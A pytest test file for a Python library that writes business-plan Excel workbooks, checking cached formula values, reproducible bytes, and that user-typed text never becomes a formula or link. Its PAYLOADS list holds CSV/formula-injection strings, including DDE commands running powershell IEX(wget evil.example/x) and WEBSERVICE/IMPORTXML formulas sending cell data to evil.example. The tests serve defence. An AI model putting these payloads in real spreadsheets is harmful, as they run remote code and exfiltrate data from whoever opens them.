"""What `write` promises of a workbook: values beside formulas, the same bytes, and no code in people's texts."""

from __future__ import annotations

import dataclasses
import datetime as dt
import re
import zipfile
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
import python_calamine
from openpyxl.workbook import Workbook

import pacxl
from pacxl.compute.contents import Contents, Identity
from pacxl.french.proper_names import as_one_name
from pacxl.settings.model import Settings
from tests.plans import MARKET, ODD_TEXTS, OFFER, PAUL, SMALL, TODAY, plan

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A plan with a late action and a deal in it, the rest blank."""
    given = plan(
        actions={
            "famille": [MARKET, OFFER],
            "etape": ["Choisir", None],
            "fin": [dt.date(2026, 6, 1), None],
            "budget": 9.5,
        },
        carnet={"societe": ["Alpha"], "montant": [1000], "probabilite": [0.2]},
        synthese={"famille": [MARKET, OFFER]},
        etapes_carnet={"etape": ["Devis"], "probabilite": [0.5]},
    )
    return pacxl.write(given, tmp_path_factory.mktemp("rempli") / "plan.xlsx")


def parts(path: Path, pattern: str) -> Iterator[tuple[str, bytes]]:
    """The files inside a workbook whose names match."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if re.fullmatch(pattern, name):
                yield name, archive.read(name)


def cells(path: Path) -> Iterator[ElementTree.Element]:
    for _, part in parts(path, r"xl/worksheets/sheet\d+\.xml"):
        yield from ElementTree.fromstring(part).iter(f"{MAIN}c")


# --- no formula without its value -------------------------------------------------------------------------


def test_no_formula_is_without_its_value(filled: Path) -> None:
    formulas = [cell for cell in cells(filled) if cell.find(f"{MAIN}f") is not None]
    assert len(formulas) > 300
    assert [cell.get("r") for cell in formulas if cell.find(f"{MAIN}v") is None] == []


def test_a_blank_result_is_an_empty_text_and_not_a_missing_one(filled: Path) -> None:
    """A number's cell without digits was never calculated; a text's cell without letters is blank."""
    results = [
        (cell.get("t"), cell.findtext(f"{MAIN}v")) for cell in cells(filled) if cell.find(f"{MAIN}f") is not None
    ]
    assert {kind for kind, value in results if not value} == {"str"}
    assert all(float(value) == float(value) for kind, value in results if kind is None and value is not None)


def test_a_viewer_that_computes_nothing_shows_the_figures(filled: Path) -> None:
    sheet = openpyxl.load_workbook(filled, data_only=True)["Synthèse"]
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert {9.5, 200, 1} <= set(values)  # the budget, the deal's weight, the late action


def test_every_number_is_stored_to_its_last_digit(tmp_path: Path) -> None:
    given = plan(carnet={"montant": [0.1 + 0.2, 1 / 3, 123456789012345.67]})
    path = pacxl.write(given, tmp_path / "plan.xlsx")
    stored = {cell.findtext(f"{MAIN}v") for cell in cells(path)}
    assert {"0.30000000000000004", "0.3333333333333333", "123456789012345.67"} <= stored


def test_a_huge_total_is_stored_as_a_number_and_not_as_three_hundred_digits(tmp_path: Path) -> None:
    path = pacxl.write(plan(carnet={"montant": [1e300, 1]}), tmp_path / "plan.xlsx")
    numbers = [cell.findtext(f"{MAIN}v") or "" for cell in cells(path) if cell.get("t") != "str"]
    assert max(map(len, numbers)) < 25


# --- the same bytes ---------------------------------------------------------------------------------------


def blank(today: dt.date = TODAY, person: str = "Paul") -> Contents:
    return pacxl.blank(SMALL, person=person, period="2026-T2", today=today)


def written(given: Contents, path: Path, *, lock: bool = False) -> bytes:
    return pacxl.write(given, path, force=True, lock=lock).read_bytes()


def test_the_same_contents_give_the_same_bytes(tmp_path: Path) -> None:
    assert written(blank(), tmp_path / "a.xlsx") == written(blank(), tmp_path / "b.xlsx")


@pytest.mark.long
def test_the_date_the_person_and_the_lock_change_them(tmp_path: Path) -> None:
    others = [blank(TODAY + dt.timedelta(1)), blank(person="Zoé")]
    files = {written(each, tmp_path / "a.xlsx") for each in [blank(), *others]}
    assert len(files | {written(blank(), tmp_path / "a.xlsx", lock=True)}) == 4


@pytest.mark.parametrize("lock", [False, True], ids=["open by default", "protected when asked"])
def test_the_sheets_are(lock: bool, tmp_path: Path) -> None:
    path = pacxl.write(blank(), tmp_path / "plan.xlsx", lock=lock)
    typed, computed = (column_of(path, MARKET, header)[0] for header in ("Étape", "Statut"))
    assert typed.parent.protection.sheet is lock
    assert (typed.protection.locked, computed.protection.locked) == (False, True)


# --- a person's text is never code ------------------------------------------------------------------------

PAYLOADS = (
    "=1+1",
    "=SUM(A1:A9)",
    "= 1+1",
    "==1",
    "=",
    "+1+1",
    "+33612345678",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("http://evil.example","cliquez")',
    '=HYPERLINK("http://evil.example/?x="&A1,"ok")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    "+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMAGE("http://evil.example/a.png")',
    '=INDIRECT("R[-1]C",FALSE)',
    "='file:///etc/passwd'#$passwd.A1",
    "='\\\\evil.example\\share\\[a.xlsx]Feuil1'!A1",
    "{=1+1}",
    "{=SUM(A1:A9*B1:B9)}",
    "_x003D_1+1",
    "_x000D_=1+1",
    "_x005F_x003D_1+1",
    "_x0009_=1+1",
    "<r>=1+1</r>",
    "<f>1+1</f>",
    "]]><f>1+1</f>",
    "http://evil.example",
    "https://evil.example/?a=1&b=2",
    "ftp://evil.example/x",
    "mailto:a@evil.example",
    "internal:'Carnet'!A1",
    "internal:Sheet1!A1",
    "external:c:\\evil.xlsx",
    "external:..\\evil.xlsx#Feuil1!A1",
    "file:///c:/windows/system32/calc.exe",
    "javascript:alert(1)",
    "\\\\evil.example\\share",
    "'=1+1",
    '"=1+1"',
    "%0A=1+1",
    "1e5",
    "TRUE",
    "#REF!",
    "&A&P&D",
)


def test_there_are_many_payloads_and_none_twice() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 45


def formulas(path: Path) -> list[str]:
    """Every formula of a workbook, with its cell."""
    return [f"{cell.get('r')}: {text}" for cell in cells(path) if (text := cell.findtext(f"{MAIN}f")) is not None]


def links(path: Path) -> list[bytes]:
    """Every hyperlink of a workbook, and every tie to another file."""
    found = [
        link
        for _, part in parts(path, r"xl/worksheets/sheet\d+\.xml")
        for link in re.findall(rb"<hyperlink .*?>", part)
    ]
    relations = [part for _, part in parts(path, r".*\.rels") if b'TargetMode="External"' in part]
    return found + relations


def as_openpyxl_says(text: str) -> str:
    """A text as openpyxl gives it: it leaves _xHHHH_ as it stands in the file."""
    return re.sub(r"[\x00-\x08\x0b-\x1f]", lambda found: f"_x{ord(found[0]):04X}_", text)


def typed_in_every_column(payloads: tuple[str, ...]) -> Contents:
    """A plan whose every text column holds each of the payloads."""
    book = plan().book
    frames = {
        key: {column.key: list(payloads) for column in book.by_key[key].stored if column.kind.dtype == "string"}
        for key in ("actions", "carnet")
    }
    return plan(actions={"famille": [OFFER] * len(payloads), **frames["actions"]}, carnet=frames["carnet"])


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return pacxl.write(typed_in_every_column(PAYLOADS), tmp_path_factory.mktemp("attaque") / "plan.xlsx")


@pytest.fixture(scope="module")
def innocent(tmp_path_factory: pytest.TempPathFactory) -> Path:
    harmless = tuple(f"texte {number}" for number in range(len(PAYLOADS)))
    return pacxl.write(typed_in_every_column(harmless), tmp_path_factory.mktemp("innocent") / "plan.xlsx")


def test_no_payload_becomes_a_formula_or_a_link(attacked: Path, innocent: Path) -> None:
    assert formulas(attacked) == formulas(innocent)
    assert links(attacked) == links(innocent)


TEXT_COLUMNS = {
    (table, header)
    for table, key in ((OFFER, "actions"), ("Carnet", "carnet"))
    for header in [column.header for column in plan().book.by_key[key].stored if column.kind.dtype == "string"]
}


@cache
def opened(path: Path, _: int) -> Workbook:
    return openpyxl.load_workbook(path)


def column_of(path: Path, sheet: str, header: str) -> list[Any]:
    """The cells under a header that hold the payloads."""
    worksheet = opened(path, path.stat().st_mtime_ns)[sheet]
    head = next(cell for row in worksheet.iter_rows() for cell in row if cell.value == header)
    return [worksheet.cell(head.row + number, head.column) for number in range(1, len(PAYLOADS) + 1)]


@pytest.mark.parametrize(("sheet", "header"), sorted(TEXT_COLUMNS))
def test_openpyxl_reads_the_very_texts_under(sheet: str, header: str, attacked: Path) -> None:
    found = column_of(attacked, sheet, header)
    assert [cell.value.replace("x005F_", "") for cell in found] == [
        as_openpyxl_says(text).replace("x005F_", "") for text in PAYLOADS
    ]
    assert {cell.data_type for cell in found} == {"s"}


def test_what_begins_like_a_formula_stays_text_when_someone_edits_it(attacked: Path) -> None:
    found = column_of(attacked, "Carnet", "Société")
    quoted = {text for text, cell in zip(PAYLOADS, found, strict=True) if cell.quotePrefix}
    assert quoted == {text for text in PAYLOADS if text.lstrip("\t\r\n") != text or text[0] in "=+-@＝＋－＠"}


def test_calamine_reads_the_very_texts(attacked: Path) -> None:
    rows = python_calamine.load_workbook(str(attacked), load_tables=True).get_table_by_name("Carnet").to_python()
    read = [row[1] for row in rows][: len(PAYLOADS)]
    assert read == list(PAYLOADS)


@pytest.mark.long
def test_consolidated_they_are_the_same_texts(attacked: Path, tmp_path: Path) -> None:
    team = pacxl.variance(pacxl.consolidate([pacxl.read(attacked)]), today=TODAY)
    path = pacxl.write(team, tmp_path / "ecarts.xlsx")
    assert pacxl.read(path).actions["etape"].tolist() == list(PAYLOADS)
    assert [formula for formula in formulas(path) if "evil" in formula or "cmd" in formula] == []
    assert [link for link in links(path) if b"evil" in link] == []


# --- nor the names of people and companies, nor what a firm writes in its settings -------------------------


NAMES = sorted({text for text in (*PAYLOADS, *ODD_TEXTS) if len(text) < 100})
FEW = dataclasses.replace(SMALL, families=SMALL.families[1:], indicators=SMALL.indicators[:1])
FOURS = [(NAMES + NAMES[:3])[start : start + 4] for start in range(0, len(NAMES), 4)]


@pytest.fixture(scope="module")
def few(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return pacxl.write(plan(FEW), tmp_path_factory.mktemp("peu") / "plan.xlsx")


@pytest.mark.long
@pytest.mark.parametrize("names", FOURS, ids=[ascii(names[0])[1:-1] + " and the like" for names in FOURS])
def test_a_company_a_person_a_team_and_a_period_may_be_called(names: list[str], few: Path, tmp_path: Path) -> None:
    owner = Identity("pac", "1", *names)
    path = pacxl.write(plan(FEW, owner=owner), tmp_path / "plan.xlsx")
    assert pacxl.read(path).identity == owner
    assert [formula for formula in formulas(path) if "evil" in formula or "1+1" in formula] == []
    assert len(links(path)) == len(links(few))
    for name, part in parts(path, r".*\.(xml|rels)"):
        assert ElementTree.fromstring(part) is not None, name


@pytest.mark.parametrize("payload", ["A&B &P", "3M France", "&D", "12 rue &A"])
def test_the_page_s_foot_says_the_company_s_name_as_it_is(payload: str, tmp_path: Path) -> None:
    path = pacxl.write(plan(FEW, owner=dataclasses.replace(PAUL, company=payload)), tmp_path / "plan.xlsx")
    ((_, part),) = parts(path, r"xl/worksheets/sheet1\.xml")
    foot = ElementTree.fromstring(part).findtext(f".//{MAIN}oddFooter")
    assert foot is not None
    assert printed(foot).startswith(f"{payload} ·")


def printed(codes: str) -> str:
    """The left part of a header or a footer as Excel prints it."""
    left = re.sub(r'&"[^"]*"|&\d{1,3}|&K[0-9A-F]{6}', "", codes.removeprefix("&L")).split("&C")[0]
    return left.replace("&&", "&").strip()


def test_a_company_may_have_a_very_long_name(tmp_path: Path) -> None:
    owner = dataclasses.replace(PAUL, company="é" * 5_000)
    assert pacxl.read(pacxl.write(plan(owner=owner), tmp_path / "plan.xlsx")).identity == owner


def firm(payloads: list[str]) -> Settings:
    """A firm that writes payloads wherever settings take a text."""
    market, offer = SMALL.families
    return dataclasses.replace(
        SMALL,
        title=payloads[0],
        families=(
            dataclasses.replace(market, title=payloads[0], purpose=payloads[1], steps=tuple(payloads)),
            dataclasses.replace(offer, title=payloads[2]),
        ),
        stages=tuple(dataclasses.replace(SMALL.stages[0], name=name) for name in payloads),
        segments=tuple(payloads),
        units=tuple(payloads),
        people=tuple(dataclasses.replace(SMALL.people[0], name=name) for name in payloads),
        indicators=tuple(
            dataclasses.replace(SMALL.indicators[0], key=f"i{n}", name=name) for n, name in enumerate(payloads)
        ),
    )


# Settings refuse blanks around a text, and two names that are one but for the form of their characters.
CLEAN = list({as_one_name(text): text for text in PAYLOADS if text.strip() == text}.values())


def test_a_firm_may_write_anything_in_its_settings(tmp_path: Path) -> None:
    given, harmless = (
        pacxl.blank(firm(texts), person="Paul", period="2026-06", today=TODAY)
        for texts in (CLEAN, [f"texte {number}" for number in range(len(CLEAN))])
    )
    path = pacxl.write(given, tmp_path / "plan.xlsx")
    innocent = pacxl.write(harmless, tmp_path / "innocent.xlsx")
    assert pacxl.read(path) == given
    assert list(map(without_texts, formulas(path))) == list(map(without_texts, formulas(innocent)))
    assert len(links(path)) == len(links(innocent))


def without_texts(formula: str) -> str:
    """A formula without the texts between quotes that it compares with: a name may be one of them, and no more."""
    return re.sub(r'"(?:[^"]|"")*"', '""', formula)


@pytest.mark.long
def test_a_choice_that_begins_like_a_formula_stays_text_when_someone_edits_it(tmp_path: Path) -> None:
    path = pacxl.write(pacxl.blank(firm(CLEAN), today=TODAY), tmp_path / "plan.xlsx")
    cells_of_lists = [cell for row in openpyxl.load_workbook(path)["Listes"].iter_rows() for cell in row]
    like = [cell for cell in cells_of_lists if isinstance(cell.value, str) and cell.value[0] in "=+-@＝＋－＠"]
    assert len(like) > 50
    assert [cell.coordinate for cell in like if not cell.quotePrefix] == []


def test_an_identity_cannot_break_out_of_its_defined_name(tmp_path: Path) -> None:
    owner = Identity("pac", '1"&HYPERLINK("http://evil.example")&"', workbook='"\n' + "é" * 300)
    path = pacxl.write(plan(owner=owner), tmp_path / "plan.xlsx")
    text = openpyxl.load_workbook(path).defined_names["Pacxl_identite"].attr_text
    assert re.fullmatch(r'"([^"]|"")*"', text)
    assert pacxl.read(path).identity == owner


def test_a_workbook_is_compressed_better_than_by_default(filled: Path, tmp_path: Path) -> None:
    with (
        zipfile.ZipFile(filled) as archive,
        zipfile.ZipFile(tmp_path / "a.zip", "w", zipfile.ZIP_DEFLATED) as default,
    ):
        for name in archive.namelist():
            default.writestr(name, archive.read(name))
    assert filled.stat().st_size < (tmp_path / "a.zip").stat().st_size
